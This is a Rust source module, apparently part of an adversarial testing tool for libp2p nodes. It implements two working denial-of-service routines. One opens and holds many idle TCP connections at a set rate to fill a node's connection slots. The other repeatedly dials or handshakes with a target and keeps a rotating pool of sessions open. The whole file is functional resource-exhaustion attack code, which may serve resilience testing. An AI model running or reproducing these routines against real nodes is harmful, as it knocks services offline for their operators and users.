//! Connections that occupy the slots of a node.

use crate::Attacker;
use crate::peer_client::tcp::connect;
use crate::session::Session;
use libp2p::Multiaddr;
use serde_json::{Value, json};
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;

/// Holds `sockets` connections, `rate` new ones a second, with or without their first byte.
pub async fn silent(
    attacker: &Attacker,
    target: SocketAddr,
    (sockets, rate, byte): (usize, u32, bool),
    duration: Duration,
) -> Value {
    let end = tokio::time::sleep(duration);
    tokio::pin!(end);
    let mut pace = tokio::time::interval(Duration::from_secs(1) / rate.max(1));
    pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut held = JoinSet::new();
    let (mut opened, mut closed) = (0_u64, 0_u64);
    loop {
        tokio::select! {
            () = &mut end => break,
            _ = pace.tick(), if held.len() < sockets => {
                opened += 1;
                held.spawn(hold(target, attacker.source(), byte));
            }
            Some(_) = held.join_next() => closed += 1,
        }
    }
    json!({ "opened": opened, "closed_by_node": closed })
}

/// Connects, and waits until the node closes the connection.
async fn hold(target: SocketAddr, source: Option<IpAddr>, byte: bool) {
    let Ok(mut stream) = connect(target, source).await else {
        // The node, or the system, refuses it: the next attempt is soon.
        return tokio::time::sleep(Duration::from_millis(100)).await;
    };
    if byte {
        // The length of the line by which the dialer proposes the protocol of the handshake.
        let _ = stream.write_all(&[19]).await;
    }
    let mut byte = [0];
    // A node that speaks first would be read.
    while stream.read(&mut byte).await.is_ok_and(|read| read > 0) {}
}

pub async fn flood(
    attacker: &Attacker,
    target: Multiaddr,
    connections: usize,
    hello: bool,
    duration: Duration,
) -> Value {
    let until = Instant::now() + duration;
    let (mut held, mut attempts, mut refused) = (Vec::new(), 0_u64, 0_u64);
    while Instant::now() < until {
        attempts += 1;
        let connecting = async {
            match hello {
                true => Session::connect(attacker, &target).await,
                false => Session::dial(attacker, &target).await,
            }
        };
        match tokio::time::timeout(Duration::from_secs(2), connecting).await.ok().flatten() {
            Some(session) => held.push(session),
            None => refused += 1,
        }
        if held.len() >= connections {
            // The oldest one is replaced.
            held.remove(0);
        }
    }
    json!({ "attempts": attempts, "refused": refused })
}
